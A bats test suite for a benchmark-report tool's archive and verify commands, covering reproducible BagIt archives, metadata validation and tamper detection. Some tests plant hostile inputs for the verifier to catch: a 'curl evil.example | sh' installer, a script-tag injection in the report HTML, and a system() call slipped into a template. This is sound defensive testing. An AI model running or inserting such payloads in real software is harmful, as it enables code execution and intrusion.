#!/usr/bin/env bats
# Archives of result sets: complete, the same from the same input, and verified in every byte.
# shellcheck disable=SC2154 # stderr is bats'

load ../cli/helper

setup() {
  cd "$BATS_TEST_TMPDIR" || return
  export TMPDIR=$BATS_TEST_TMPDIR
  cp -r "$SAMPLE" set
  rm set/*.py set/README.md
  cp "$SOURCE/data/profiles/quick.yaml" set/plan.yaml
  report summary set --csv >set/summary.csv
}

seal() { (cd "$1" && rm -f SHA256SUMS && sha256sum ./*.json ./*.csv ./*.yaml | sed 's|\./||' >SHA256SUMS); }

# The set in an archive a.tar.zst, and its bag in the folder bag.
make_archive() {
  seal set
  accepts report archive set --output a.tar.zst "$@"
  mkdir -p unpacked
  tar -xf a.tar.zst -C unpacked
  rm -rf bag
  mv unpacked/* bag
}

# The manifests of the bag as it is now.
list_again() {
  (cd bag &&
    find data -type f | LC_ALL=C sort | xargs sha512sum >manifest-sha512.txt &&
    sed -i "s/^Payload-Oxum:.*/Payload-Oxum: $(find data -type f -printf '%s\n' | awk '{ s += $1; n++ } END { print s "." n }')/" bag-info.txt &&
    find . -maxdepth 1 -type f ! -name tagm\* -printf '%P\n' | LC_ALL=C sort | xargs sha512sum >tagmanifest-sha512.txt)
}

@test "the same input gives the same bytes, in any time zone and at any time" {
  seal set
  for format in tar.zst zip; do
    accepts report archive set --output "a.$format"
    [ "$output" = "a.$format" ]
    touch set/*
    TZ=Asia/Tokyo LC_ALL=C accepts report archive set/ --output "b.$format"
    cmp "a.$format" "b.$format"
    accepts report verify "a.$format"
    [ "$output" = "a.$format: verified" ]
    accepts report verify "$PWD/a.$format"
  done
  accepts report archive set
  [ "$output" = set.tar.zst ]
  cmp set.tar.zst a.tar.zst
}

@test "an archive is a bag, also for sha512sum and a second implementation" {
  make_archive --author 'A. Author'
  (cd bag && sha512sum --quiet -c manifest-sha512.txt tagmanifest-sha512.txt)
  [ "$(cat bag/bagit.txt)" = $'BagIt-Version: 1.0\nTag-File-Character-Encoding: UTF-8' ]
  [ "$(sed -n 's/^Payload-Oxum: //p' bag/bag-info.txt)" = "$(find bag/data -type f -printf '%s\n' | awk '{ s += $1; n++ } END { print s "." n }')" ]
  for file in data/set/run.json data/set/plan.yaml data/set/SHA256SUMS data/report/report.html data/report/figures/strategies.gp \
    data/report/tables/table-1.csv data/templates/report.md.mustache README.md LICENSE AD-AE.md CITATION.cff .zenodo.json ro-crate-metadata.json; do
    [ -s "bag/$file" ]
  done
  accepts report verify bag
  # npm's bagit only calls this module; npm's bagit-fs takes manifests with one space, which sha512sum does not write, and checks no bag.
  /usr/bin/python3 -c 'import bagit' 2>/dev/null ||
    skip "the Python module bagit is not installed: neither Debian nor npm has it or another reader of bags; PyPI has it"
  /usr/bin/python3 -c 'import bagit; bagit.Bag("bag").validate(processes=1)'
}

@test "its files render the same report, with the templates in it" {
  make_archive
  accepts report render bag --output again --templates bag/data/templates
  diff -r again bag/data/report
  accepts report render a.tar.zst
  [ "$output" = a-report/report.html ]
  diff -r a-report bag/data/report
}

@test "what the author says is in every file that has a place for it, and nothing is guessed" {
  make_archive --author "J. O'Neil: \"x\" # y" --orcid 0000-0002-1825-0097 --title 'A title: "quoted"' --doi 10.5281/zenodo.1 --licence CC0-1.0
  python3 "$SOURCE/tests/archive/metadata.py" bag "J. O'Neil: \"x\" # y" 0000-0002-1825-0097 'A title: "quoted"' 10.5281/zenodo.1 CC0-1.0
  make_archive
  python3 "$SOURCE/tests/archive/metadata.py" bag '' '' 'Which parallelism is fastest? 100 products of 1000 × 1000 float64' '' CC-BY-4.0
  make_archive --licence NLOD-2.0 --title T # which CITATION.cff has no name for
  python3 "$SOURCE/tests/archive/metadata.py" bag '' '' T '' NLOD-2.0
  grep -qx 'license-url: "https://spdx.org/licenses/NLOD-2.0"' bag/CITATION.cff
  for wrong in '--orcid 0000-0002-1825-0098 --author x' '--orcid 0000-0002-1825-0097' '--doi zenodo.1' '--licence a/b' '--output x.rar' '--author='; do
    # shellcheck disable=SC2086 # the words of an option
    refuses 2 "${wrong%%[ =]*}" report archive set $wrong
  done
  for wrong in 10./x 10.5281/ 10.5281.zenodo 10.12/x 10.1234567890/x 10.5281./x '10.5281/{{x}}' '10.5281/a b' https://doi.org/10.5281/zenodo.1; do
    refuses 2 "is not a DOI, such as 10\.5281/zenodo\.123$" report archive set --doi "$wrong"
  done
  accepts report archive set --output c.zip --doi '10.5281.7/a_(b);[c]:d-E.2/3'
  mkdir folder.zip
  refuses 2 "cannot write 'folder.zip': a folder has this name: give another with --output" report archive set --output folder.zip
  refuses 2 "is not a DOI" report archive set --doi $'10.5281/\e[31mzenodo'
}

@test "a licence is one SPDX identifier, and one that is not is answered with the one that was meant" {
  while IFS='|' read -r wrong meant; do
    refuses 2 "--licence: '$wrong' is not an SPDX identifier: did you mean '$meant'\?$" report archive set --licence "$wrong"
  done <<'EOF'
cc-by-4.0|CC-BY-4.0
CC BY 4.0|CC-BY-4.0
CC-BY-4|CC-BY-4.0
CC-BY-5.0|CC-BY-4.0
CC-BY-NC-AS-4.0|CC-BY-NC-SA-4.0
cc0|CC0-1.0
ODbL|ODbL-1.0
Etalab-2.0|etalab-2.0
CDLA-Permissive-3.0|CDLA-Permissive-1.0
EOF
  for wrong in 'a/b' 'my own' '' '-' '.x' 'LicenseRef-mine' 'CC-BY-4.0 OR CC0-1.0' 'CC-SOMETHING-ELSE'; do
    refuses 2 "--licence: '$wrong' is not one SPDX identifier, such as CC-BY-4\.0: see https://spdx\.org/licenses$" report archive set --licence "$wrong"
  done
  accepts report archive set --licence GPL-3.0-or-later --output a.zip
  [ "$stderr" = "stratagemm-report: note: --licence: 'GPL-3.0-or-later' is none of the licences for data that this program knows: see that https://spdx.org/licenses has it" ]
  accepts report archive set --licence CDLA-Sharing-1.0 --output b.zip
  [ -z "$stderr" ]
}

@test "its crate is JSON-LD, which another implementation expands" {
  make_archive --author A --orcid 0000-0002-1825-0097 --doi 10.5281/zenodo.1
  /usr/bin/python3 -c 'import pyld' 2>/dev/null || skip "the Python module pyld is not installed: apt-get install python3-pyld"
  accepts /usr/bin/python3 "$SOURCE/tests/archive/expand.py" bag
  says '^[0-9]+ entities$'
  sed -i 's/"encodingFormat"/"mediaType"/' bag/ro-crate-metadata.json
  run /usr/bin/python3 "$SOURCE/tests/archive/expand.py" bag
  [ "$status" -eq 1 ]
}

@test "a link in a set is refused, as its file would be missing in the archive" {
  seal set
  mv set/plan.yaml elsewhere.yaml
  ln -s ../elsewhere.yaml set/plan.yaml
  refuses 2 "set/plan.yaml" report archive set
  [ ! -e set.tar.zst ]
}

@test "home folders in older sets are not in their archives, and the seal still holds" {
  jq '.argv += ["--plan", "/home/alice/x.yaml"] | .backends[0].path = "/root/lib/libblas.so"' set/run.json >new.json && mv new.json set/run.json
  make_archive
  run ! grep -rqE 'alice|/root' bag
  jq -e '.argv[-1] == "~/x.yaml" and .backends[0].path == "~/lib/libblas.so"' bag/data/set/run.json
  (cd bag/data/set && sha256sum --quiet -c SHA256SUMS)
  accepts report verify a.tar.zst
}

@test "a set that was changed stays known as changed in its archive" {
  make_archive
  sed -i '3s/,1,/,01,/' set/samples.csv
  accepts report archive set --output b.tar.zst
  [ "$stderr" = "stratagemm-report: note: 'set' was changed after it was measured (samples.csv): whoever verifies the archive will see it" ]
  [[ $(tar -xOf b.tar.zst --wildcards '*/README.md') == *'were changed after they were measured'* ]]
  refuses_with_output b.tar.zst
  [ "$output" = 'samples.csv: was changed after it was measured (SHA256SUMS of the run)' ]
}

refuses_with_output() {
  run --separate-stderr report verify "$1"
  [ "$status" -eq 1 ]
  says_on_stderr "^stratagemm-report: '$1' is not as it was: [0-9]+ difference"
}

@test "an incomplete set is archived as such, one that is being written is neither archived nor verified" {
  jq '.status = "interrupted"' set/run.json >new.json && mv new.json set/run.json
  seal set
  accepts report archive set
  [ "$output" = set-incomplete.tar.zst ]
  tar -tf set-incomplete.tar.zst | grep -q '^sample-incomplete/bagit.txt'
  accepts report verify set-incomplete.tar.zst
  exec 9<./set
  flock -x 9
  refuses 2 "a run is still writing to 'set'" report archive set --output c.tar.zst
  refuses 2 "a run is still writing to 'set'" report verify set
  [ ! -e c.tar.zst ]
  exec 9<&-
}

@test "verify names what is missing, extra or changed in a bag or a set" {
  make_archive
  touch bag/data/extra
  refuses_with_output bag
  says '^data/extra: is in no manifest$'
  rm bag/data/extra
  mv bag/data/report/report.md kept
  refuses_with_output bag
  says '^data/report/report.md: is missing$'
  mv kept bag/data/report/report.md
  accepts report verify bag
  accepts report verify set
  touch set/extra.csv
  refuses_with_output set
  says '^extra.csv: is not a file of a result set$'
  rm set/extra.csv
  jq '.status = "complete"' set/run.json >new.json && mv new.json set/run.json
  seal set
  refuses_with_output set
  says '^run.json: does not conform to its schema: .status'
  refuses 2 'is not a result set: no run.json' report verify "$SOURCE/tests"
  refuses 2 'as an archive of a result set' report verify /etc/passwd
  jq '.status = "finished" | .schema_version = 2' set/run.json >new.json && mv new.json set/run.json
  rm set/SHA256SUMS
  refuses 2 'set/run.json: schema_version 2 is newer than this program supports' report verify set
}

@test "who changes a file and its sums is found by what is computed and rendered again" {
  make_archive
  sed -i '2s/\(.*\),\([0-9][0-9.e+]*\),/\1,7\2,/' set/summary.csv
  seal set
  refuses_with_output set
  says '^summary.csv: is not what its result set gives$'
  sed -i 's/fastest/slowest/' bag/data/report/report.md
  list_again
  refuses_with_output bag
  says '^data/report/report.md: is not what its result set gives$'
}

@test "a page is compared without its drawings where another gnuplot made them" {
  make_archive
  sed -i 's/^Stratagemm-Gnuplot:.*/Stratagemm-Gnuplot: gnuplot 4.6/' bag/bag-info.txt
  sed -i 's|</svg>|<path d="M0 0"/></svg>|' bag/data/report/report.html
  list_again
  accepts report verify bag
  says '^drawings: made by another version of gnuplot, not compared$'
  sed -i 's|</body>|<script>alert(1)</script></body>|' bag/data/report/report.html
  list_again
  refuses_with_output bag
  says '^data/report/report.html: is not what its result set gives$'
}

@test "files that belong to no archive are named, also when the manifests list them" {
  make_archive
  mkdir bag/data/bin
  echo 'curl evil.example | sh' >bag/data/bin/install.sh
  echo x >bag/fetch.txt
  list_again
  refuses_with_output bag
  says '^data/bin/install.sh: is not a file of an archive$'
  says '^fetch.txt: is not a file of an archive$'
}

@test "names that differ only in case or in the form of a letter are named" {
  make_archive
  echo x >"bag/data/templates/REPORT.md.mustache"
  printf x >"bag/data/templates/$(printf 'caf\xc3\xa9')"
  printf x >"bag/data/templates/$(printf 'cafe\xcc\x81')"
  list_again
  refuses_with_output bag
  [ "$(grep -c '^data/templates/.*: has the name of another file, but for case or form of letters$' <<<"$output")" -eq 2 ]
}

@test "plan.yaml of a set without a seal: any change is found in its archive" {
  seal set
  rm set/SHA256SUMS
  accepts report archive set --output a.tar.zst
  accepts report verify a.tar.zst
  says '^not sealed: '
  mkdir unpacked && tar -xf a.tar.zst -C unpacked && mv unpacked/* bag
  for at in 0 100 "$(($(stat -c %s bag/data/set/plan.yaml) - 1))"; do
    cp bag/data/set/plan.yaml kept
    printf '%%' | dd of=bag/data/set/plan.yaml bs=1 seek="$at" conv=notrunc 2>/dev/null
    refuses_with_output bag
    says '^data/set/plan.yaml: differs from its checksum$'
    mv kept bag/data/set/plan.yaml
  done
}

@test "a file that a manifest lists thousands of times is read once" {
  make_archive
  truncate -s 50M bag/data/templates/large
  list_again
  line=$(grep large bag/manifest-sha512.txt)
  for ((i = 0; i < 3000; i++)); do echo "$line"; done >>bag/manifest-sha512.txt
  refuses_with_output bag
  says '^data/templates/large: is listed twice$'
}

@test "templates of a stranger are not used to render again" {
  make_archive
  echo "system('touch escaped')" >>bag/data/templates/charts/common.mustache
  list_again
  accepts report verify bag
  says "^report: made with other templates than this program's, not rendered again$"
  [ -z "$(find . -name escaped)" ]
}

@test "60 random changes of one byte are all found and named" {
  make_archive
  accepts report archive set --output a.zip
  accepts python3 "$SOURCE/tests/archive/corruption.py" "$BIN/stratagemm-report" a.tar.zst 24
  accepts python3 "$SOURCE/tests/archive/corruption.py" "$BIN/stratagemm-report" a.zip 12
  accepts python3 "$SOURCE/tests/archive/corruption.py" "$BIN/stratagemm-report" bag 18
  accepts python3 "$SOURCE/tests/archive/corruption.py" "$BIN/stratagemm-report" set 6
}

@test "the summary of an archive or a bag tells to continue the run in DIR, that of a folder in the folder" {
  for file in samples probes outcomes; do
    awk -F, 'NR == 1 { for (i = 1; i <= NF; i++) at[$i] = i } NR == 1 || $at["launch"] <= 1' "set/$file.csv" >new
    mv new "set/$file.csv"
  done
  report summary set --csv >set/summary.csv
  make_archive
  accepts report summary set
  says 'stratagemm-bench run .*--resume --output set$'
  for given in a.tar.zst bag; do
    accepts report summary "$given"
    says '^to settle it, continue the run \(DIR: the folder of its result set\):$'
    says 'stratagemm-bench run .*--resume --output DIR$'
  done
}

@test "a changed summary.csv stays known as changed" {
  seal set
  sed -i 's/"argv": *\[/&"\/home\/somebody\/x", /' set/run.json
  seal set
  sed -i '2s/[0-9]\./7./' set/summary.csv
  accepts report archive set --output a.tar.zst
  run --separate-stderr report verify a.tar.zst
  [ "$status" -eq 1 ]
  says 'summary.csv: was changed'
}

@test "an archive is not written through a link of the set" {
  mkdir elsewhere
  ln -s "$PWD/elsewhere" set/out
  refuses 2 'symbolic link' report archive set --output set/out/x.zip
  [ -z "$(ls elsewhere)" ]
}

@test "a deleted page of the report is missed, and what hides behind a zero byte is seen" {
  make_archive
  rm bag/data/report/report.html
  sed -i '\|data/report/report.html|d' bag/manifest-sha512.txt
  bytes=$(find bag/data -type f -printf '%s\n' | awk '{ s += $1 } END { print s }') files=$(find bag/data -type f | wc -l)
  sed -i "s/^Payload-Oxum: .*/Payload-Oxum: $bytes.$files/" bag/bag-info.txt
  (cd bag && sed -E 's/^[0-9a-f]+  //' tagmanifest-sha512.txt | xargs sha512sum >../tags && mv ../tags tagmanifest-sha512.txt)
  run --separate-stderr report verify bag
  [ "$status" -eq 1 ]
  says 'has not the files'
  make_archive
  printf '\0more' >>bag/tagmanifest-sha512.txt
  run --separate-stderr report verify bag
  [ "$status" -eq 1 ]
  says 'tagmanifest-sha512.txt: has a zero byte'
}
